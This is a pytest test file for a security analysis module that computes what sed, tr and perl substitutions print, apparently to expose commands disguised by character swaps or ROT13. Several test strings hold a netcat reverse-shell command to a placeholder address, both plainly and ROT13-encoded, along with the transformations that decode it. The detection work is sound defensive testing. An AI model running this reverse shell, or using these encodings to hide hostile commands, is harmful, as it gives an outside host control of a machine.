"""sed, tr and perl -pe outputs as the reader computes them. Each expected output is what GNU sed
4.9, GNU tr (coreutils 9.1) and perl 5.36 printed for the same script and input."""
import pytest

from vigiles.analysis import sed
from vigiles.analysis.decode import output_of


@pytest.mark.parametrize("args, text, expected", [
    (["s/m/n/"], "mc -e /bin/sh 10.0.0.1 4444\n", "nc -e /bin/sh 10.0.0.1 4444\n"),
    (["-e", "s/^m/n/"], "mc -e x\n", "nc -e x\n"),
    (["s/x/y/g"], "xax xbx\nxx\n", "yay yby\nyy\n"),
    (["s/x/y/2"], "xax xbx\n", "xay xbx\n"),
    (["s/x/y/2g"], "xax xbx x\n", "xay yby y\n"),
    (["s/a*/x/g"], "baaac\n", "xbxcx\n"),                 # no empty match right after a match
    (["s/x*/-/g"], "abc\n", "-a-b-c-\n"),
    (["s/\\(ab\\)\\(c\\)/\\2\\1/"], "abcabc\n", "cababc\n"),  # BRE groups
    (["-E", "s/(ab)(c)/\\2\\1&/g"], "abcabc\n", "cababccababc\n"),
    (["s|/tmp|/var/tmp|"], "cd /tmp/x\n", "cd /var/tmp/x\n"),
    (["s#a\\#b#X#"], "a#b\n", "X\n"),                       # an escaped delimiter is itself
    (["y/abc/xyz/"], "aabbcc\n", "xxyyzz\n"),
    (["s/A/b/I"], "AaA\n", "baA\n"),
    (["s/a/b/;s/b/c/"], "a\n", "c\n"),
    (["-e", "s/a/b/", "-e", "s/b/c/g"], "ab\n", "cc\n"),
    (["-ne", "s/a/b/p"], "a\nb\n", "b\n"),
    (["-n", "p"], "a\nb\n", "a\nb\n"),
    (["p"], "a\n", "a\na\n"),
    (["d"], "a\nb\n", ""),
    (["s/x/y/;d"], "x\ny\n", ""),
    (["s/[0-9]\\{2\\}/N/g"], "a12b345\n", "aNbN5\n"),
    (["s/a\\+/X/"], "baaa\n", "bX\n"),
    (["s/a+/X/"], "ba+a\n", "bXa\n"),                       # + is a plain character in a BRE
    (["s/*/X/"], "a*b\n", "aXb\n"),                         # and so is a leading *
    (["-r", "s/(x|y)+/Z/"], "axyxb\n", "aZb\n"),
    (["s/\\(a\\|b\\)/X/g"], "abc\n", "XXc\n"),
    (["s/[[:upper:]]/x/g"], "AbC\n", "xbx\n"),
    (["s/[\\]/X/"], "a\\b\n", "aXb\n"),                     # a backslash in brackets is a member
    (["s/ /\\n/g"], "a b\n", "a\nb\n"),
    (["s/a/\\&/"], "a\n", "&\n"),
    (["s/^/nc /"], "-e /bin/sh h 1\n", "nc -e /bin/sh h 1\n"),
    (["s/x/y/"], "no newline", "no newline"),
    (["s/a/b/", "-"], "a\n", "b\n"),
])
def test_sed_prints_what_gnu_sed_prints(args, text, expected):
    assert sed.output(args, text) == expected
    assert output_of("sed", args, text) == expected


@pytest.mark.parametrize("args", [
    ["-i", "s/a/b/", "f"],        # in place: nothing printed, a file changed
    ["s/a/b/", "file"],           # the input is a file, not the pipe
    ["-f", "x.sed"], ["1d"], ["/x/d"], ["{s/a/b/}"],
    ["s/a/b/w out"], ["s/a/b/e"],  # writes a file; runs the pattern space
    ["s/a/\\U&/"], ["s//x/"], ["s/(a)/\\1/"], ["s/\\(a\\)\\1/x/"],
    ["s/a/b"], ["y/ab/c/"], ["-z", "s/a/b/"], [],
])
def test_what_sed_would_do_that_is_not_computed_is_unknown(args):
    assert sed.output(args, "a\n") is None


def test_sed_output_is_bounded_and_its_regexes_are_linear():
    doubling = ["-e", "s/./&&/g"] * 12  # 4,096 times longer
    assert sed.output(doubling, "x" * 1000 + "\n") is None
    assert sed.output(["s/(a+)+$/x/"], "a" * 50_000 + "b\n") == "a" * 50_000 + "b\n"
    assert sed.output(["-E", "s/(a+)+$/x/"], "a" * 50_000 + "b\n") == "a" * 50_000 + "b\n"


@pytest.mark.parametrize("args, expected", [
    (["a-z", "n-za-m"], "nc -e /bin/sh 10.0.0.1 4444\n"),          # ROT13
    (["A-Za-z", "N-ZA-Mn-za-m"], "nc -e /bin/sh 10.0.0.1 4444\n"),
    (["[:lower:]", "[:upper:]"], "AP -R /OVA/FU 10.0.0.1 4444\n"),
    (["abc", "x"], "xp -r /ovx/fu 10.0.0.1 4444\n"),               # the second set padded
    (["-d", "aeiou"], "p -r /v/f 10.0.0.1 4444\n"),
    (["-d", "[:digit:]"], "ap -r /ova/fu ... \n"),
    (["\\n", "_"], "ap -r /ova/fu 10.0.0.1 4444_"),
    (["\\141", "b"], "bp -r /ovb/fu 10.0.0.1 4444\n"),             # octal escapes
])
def test_tr_with_ranges_classes_and_deletion(args, expected):
    assert output_of("tr", args, "ap -r /ova/fu 10.0.0.1 4444\n") == expected


@pytest.mark.parametrize("args", [["-c", "a", "b"], ["-s", "a"], ["z-a", "b"], ["[=a=]", "b"], ["[a*3]", "b"],
                                  ["a", ""], ["[:nope:]", "b"]])
def test_tr_forms_not_computed_are_unknown(args):
    assert output_of("tr", args, "abc\n") is None


PERL_INPUT = "ZZ -e /bin/sh 10.0.0.1 4444\nabc abc\n  x  \nlast"


@pytest.mark.parametrize("args, expected", [
    (["-pe", "s/ZZ/nc/"], "nc -e /bin/sh 10.0.0.1 4444\nabc abc\n  x  \nlast"),
    (["-pe", "s/(a)(b)/$2$1/g"], "ZZ -e /bin/sh 10.0.0.1 4444\nbac bac\n  x  \nlast"),
    (["-pe", "s/b/[$&]/"], "ZZ -e /[b]in/sh 10.0.0.1 4444\na[b]c abc\n  x  \nlast"),
    (["-pe", "s/\\s+/_/g"], "ZZ_-e_/bin/sh_10.0.0.1_4444_abc_abc__x_last"),  # the newline is matched too
    (["-pe", "s/c$//"], "ZZ -e /bin/sh 10.0.0.1 4444\nabc ab\n  x  \nlast"),     # $ before the newline
    (["-pe", "tr/a-z/n-za-m/"], "ZZ -r /ova/fu 10.0.0.1 4444\nnop nop\n  k  \nynfg"),
    (["-p", "-e", "s|/bin|/usr/bin|"], "ZZ -e /usr/bin/sh 10.0.0.1 4444\nabc abc\n  x  \nlast"),
    (["-pe", "s/(\\w+) (\\w+)/${2} ${1}/"], "ZZ -e /bin/10 sh.0.0.1 4444\nabc abc\n  x  \nlast"),
])
def test_perl_substitutions_print_what_perl_prints(args, expected):
    assert output_of("perl", args, PERL_INPUT) == expected


@pytest.mark.parametrize("args", [["-ne", "print"], ["-pe", "s/a/b/e"], ["-pe", "$_=uc"], ["-i", "-pe", "s/a/b/"],
                                  ["-pe", "s/a/$x/"], ["-e", "s/a/b/"], ["-pe", "s{a}{b}"], ["-pe", "s/(?=a)/b/"],
                                  ["-pe", "s/.*/echo \\1/"]])
def test_perl_code_that_is_not_only_substitution_is_unknown(args):
    assert output_of("perl", args, PERL_INPUT) is None
